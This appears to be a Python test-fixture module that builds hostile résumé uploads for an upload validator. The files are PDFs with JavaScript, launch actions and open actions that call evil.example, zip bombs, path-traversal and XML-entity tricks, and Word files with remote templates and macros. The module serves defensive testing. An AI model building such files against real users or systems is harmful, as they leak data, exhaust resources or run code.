"""Files that people and attackers upload, made by code: nothing hostile lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from fpdf import FPDF
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, PdfObject, TextStringObject

from tests import factories

MB = 1024 * 1024


def pdf_of(pages: int) -> bytes:
    document = FPDF()
    for _ in range(pages):
        document.add_page()
    return bytes(document.output())


def pdf_of_size(size: int) -> bytes:
    """A sound PDF of exactly this many bytes, most of them in one stream."""
    writer = _writer()
    stream = DecodedStreamObject()
    writer.root_object[NameObject("/Metadata")] = writer._add_object(stream)
    for _ in range(3):  # the length of the length counts too
        stream.set_data(b"x" * (len(stream.get_data()) + size - len(_written(writer))))
    return _written(writer)


def locked_pdf() -> bytes:
    writer = _writer()
    writer.encrypt("secret", algorithm="RC4-128")
    return _written(writer)


def pdf_with_script() -> bytes:
    return _pdf_that_begins_with({"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert('hello');")})


def pdf_with_script_in_hex() -> bytes:
    """Names may be written with # and two digits."""
    return pdf_with_script().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def pdf_with_packed_script() -> bytes:
    """The action lies compressed in an object stream, where no raw byte tells of it."""
    inside = b"3 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(inside)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
        2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        5: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(packed), packed),
    }
    data, places = b"%PDF-1.5\n", {}
    for number, content in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    places[6] = len(data)
    rows = b"".join(
        b"\2\0\0\5\0" if number == 3 else b"\1" + places[number].to_bytes(3, "big") + b"\0" for number in range(1, 7)
    )
    table = b"<< /Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R /Length 35 >>\nstream\n\0\0\0\0\xff%s\nendstream" % rows
    return data + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, places[6])


def pdf_with_launch() -> bytes:
    return _pdf_that_begins_with({"/S": NameObject("/Launch"), "/F": TextStringObject("calc.exe")})


def pdf_with_file() -> bytes:
    writer = _writer()
    writer.add_attachment("evil.exe", b"MZ")
    return _written(writer)


def pdf_with(*, catalog: bytes = b"", page: bytes = b"", more: bytes = b"null") -> bytes:
    """A PDF of one page by hand, with this in its catalog or its page; `more` is its object 4."""
    return _pdf_of(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] %s >>" % page,
        more,
    )


def pdf_with_link() -> bytes:
    document = FPDF()
    document.add_page()
    document.set_font("helvetica")
    document.cell(text="my site", link="https://maria.example")
    return bytes(document.output())


def cut_pdf() -> bytes:
    whole = factories.pdf()
    return whole[: len(whole) * 2 // 3]


def pdf_without_pages() -> bytes:
    return _pdf_with_tree(b"<< /Type /Pages /Kids [] /Count 0 >>")


def pdf_whose_pages_go_round() -> bytes:
    return _pdf_with_tree(b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")


def pdf_of_absurd_nesting() -> bytes:
    return _pdf_with_tree(b"[" * 60_000 + b"]" * 60_000)


def noise_that_says_pdf() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF"


def picture_that_is_a_pdf_too() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00" + factories.pdf()


def docx_with(name: str, content: bytes = b"x") -> bytes:
    """A Word file with one part more."""
    file = io.BytesIO(factories.docx())
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return file.getvalue()


RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
    'http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/></Relationships>'
)


def docx_related_to(kind: str, target: str, mode: str = "External") -> bytes:
    """A Word file one of whose parts is related to something outside."""
    return docx_with("word/_rels/settings.xml.rels", (RELATION % (kind, target, mode)).encode())


def docx_whose_text_is(xml: bytes) -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": xml})


def bomb() -> bytes:
    """Thirty megabytes of nothing."""
    return docx_whose_text_is(b"<w:document>" + b" " * (30 * MB))


def flat_bomb() -> bytes:
    """A part over the limit that says so and is packed only a little."""
    return docx_whose_text_is(b"".join(b"<w:p>%d</w:p>" % (number * 7919) for number in range(700_000)))


def bomb_that_lies() -> bytes:
    """The bomb again, whose headers claim a thousand bytes."""
    data, real = bomb(), struct.pack("<I", 30 * MB + len(b"<w:document>"))
    assert data.count(real) == 2
    return data.replace(real, struct.pack("<I", 1_000))


def crowd() -> bytes:
    """A thousand members."""
    file = io.BytesIO(factories.docx())
    with zipfile.ZipFile(file, "a") as archive:
        for number in range(1_000):
            archive.writestr(f"word/media/{number}", b"")
    return file.getvalue()


def zip_of_texts() -> bytes:
    return _zip({"cv.txt": b"Maria Ortega"})


def open_document() -> bytes:
    return _zip({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office/>"})


def cut_docx() -> bytes:
    whole = factories.docx()
    return whole[: len(whole) // 2]


def locked_docx() -> bytes:
    """Members whose flag says that they are encrypted."""
    data = bytearray(docx_whose_text_is(b"<w:document/>"))
    for header, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(header)
        while place >= 0:
            data[place + flags] |= 1
            place = data.find(header, place + 4)
    return bytes(data)


# What is built to do harm or is no résumé, and a word of the sentence that refuses it.
HOSTILE = {
    "empty": (lambda: b"", "is empty"),
    "text": (lambda: b"Maria Ortega, CPC", "neither a PDF nor a Word file"),
    "html": (lambda: b"<html><script>alert(1)</script>", "neither a PDF nor a Word file"),
    "program": (lambda: b"MZ" + b"\x00" * 500, "neither a PDF nor a Word file"),
    "rich text": (lambda: rb"{\rtf1\ansi Maria}", "rich text"),
    "old or locked Word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4_096, "old Word file"),
    "cut PDF": (cut_pdf, "cut off"),
    "locked PDF": (locked_pdf, "locked"),
    "PDF with a script": (pdf_with_script, "carries a script"),
    "PDF with a script in hex": (pdf_with_script_in_hex, "carries a script"),
    "PDF with a packed script": (pdf_with_packed_script, "carries a script"),
    "PDF that starts a program": (pdf_with_launch, "carries a script"),
    "PDF with a file inside": (pdf_with_file, "carries a script"),
    **{
        f"PDF that {deed} when it is opened": (lambda action=action: pdf_with(catalog=b"/OpenAction " + action), "reaches out")
        for deed, action in {
            "goes to a share": rb"<< /S /GoToR /F (\\\\evil.example\\s) /D [0 /Fit] >>",
            "goes into a file on a share": rb"<< /S /GoToE /F (\\\\evil.example\\s) /D [0 /Fit] >>",
            "asks for an address": b"<< /S /URI /URI (https://evil.example/seen) >>",
            "sends a form": b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>",
            "imports data": rb"<< /S /ImportData /F (\\\\evil\\x.fdf) >>",
            "plays something": b"<< /S /Rendition /OP 0 >>",
            "asks for an address later on": b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://evil.example) >>] >>",
        }.items()
    },
    "PDF page that asks for an address": (
        lambda: pdf_with(page=b"/AA << /O << /S /URI /URI (https://evil.example) >> >>"), "reaches out",
    ),
    "PDF whose deed is named elsewhere": (
        lambda: pdf_with(catalog=b"/OpenAction << /S 4 0 R >>", more=b"/GoToR"), "reaches out",
    ),
    "PDF whose bytes lie elsewhere": (
        lambda: pdf_with(more=b"<< /F (\\\\\\\\evil.example\\\\s) /Length 0 >>\nstream\n\nendstream"), "reaches out",
    ),
    "PDF without pages": (pdf_without_pages, "at least one page"),
    "PDF of 61 pages": (lambda: pdf_of(61), "at most 60"),
    "PDF whose pages go round": (pdf_whose_pages_go_round, "PDF"),
    "PDF of absurd nesting": (pdf_of_absurd_nesting, "PDF"),
    "noise that says PDF": (noise_that_says_pdf, "can't be opened"),
    "picture and PDF in one": (picture_that_is_a_pdf_too, "neither a PDF nor a Word file"),
    "bomb": (bomb, "larger inside"),
    "flat bomb": (flat_bomb, "larger inside"),
    "bomb that lies": (bomb_that_lies, "damaged"),
    "a thousand members": (crowd, "larger inside"),
    "macros": (lambda: docx_with("word/vbaProject.bin"), "macros"),
    "path upwards": (lambda: docx_with("../../etc/cron.d/x"), "not built as Word"),
    "path upwards, backslashes": (lambda: docx_with("..\\..\\x.xml"), "not built as Word"),
    "absolute path": (lambda: docx_with("/etc/passwd"), "not built as Word"),
    "drive": (lambda: docx_with("C:/x.xml"), "not built as Word"),
    "entities": (
        lambda: docx_whose_text_is(b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document>&b;</w:document>'),
        "not built as Word",
    ),
    "outside entity": (
        lambda: docx_with("word/_rels/extra.rels", b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'),
        "not built as Word",
    ),
    "entities in UTF-16": (
        lambda: docx_whose_text_is('<!DOCTYPE x [<!ENTITY a "a">]><d>&a;</d>'.encode("utf-16")), "not built as Word",
    ),
    "entities in a part in capitals": (
        lambda: docx_with("word/x.XML", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "not built as Word",
    ),
    "Word template elsewhere": (
        lambda: docx_related_to("attachedTemplate", "https://evil.example/t.dotm"), "fetches something",
    ),
    "Word template on a share": (
        lambda: docx_related_to("attachedTemplate", "file:///\\\\evil.example\\t.dotm"), "fetches something",
    ),
    "Word picture on a share": (lambda: docx_related_to("image", "file://///evil.example/x.png"), "fetches something"),
    "Word frame in capitals": (lambda: docx_related_to("frame", "https://evil.example", "EXTERNAL"), "fetches something"),
    "Word with an OLE object": (lambda: docx_with("word/embeddings/oleObject1.bin"), "carries another file"),
    "Word with a control": (lambda: docx_with("word/activeX/activeX1.xml", b"<x/>"), "carries another file"),
    "Word with a program": (lambda: docx_with("word/media/run.exe", b"MZ"), "carries another file"),
    "Word with a file of no kind": (lambda: docx_with("word/media/run", b"MZ"), "carries another file"),
    "plain zip": (zip_of_texts, "not a Word document"),
    "OpenDocument": (open_document, "not a Word document"),
    "cut Word file": (cut_docx, "damaged"),
    "locked members": (locked_docx, "damaged"),
}  # fmt: skip


def _pdf_that_begins_with(action: dict[str, PdfObject]) -> bytes:
    writer = _writer()
    begin = DictionaryObject({NameObject(name): value for name, value in action.items()})
    writer.root_object[NameObject("/OpenAction")] = begin
    return _written(writer)


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    return writer


def _written(writer: PdfWriter) -> bytes:
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def _pdf_with_tree(tree: bytes) -> bytes:
    """A PDF by hand whose pages are this object."""
    return _pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", tree)


def _pdf_of(*objects: bytes) -> bytes:
    data, table = b"%PDF-1.4\n", b"0000000000 65535 f \n"
    for number, content in enumerate(objects, 1):
        table += b"%010d 00000 n \n" % len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    tail = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(data))
    return data + b"xref\n0 %d\n" % (len(objects) + 1) + table + tail


def _zip(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()
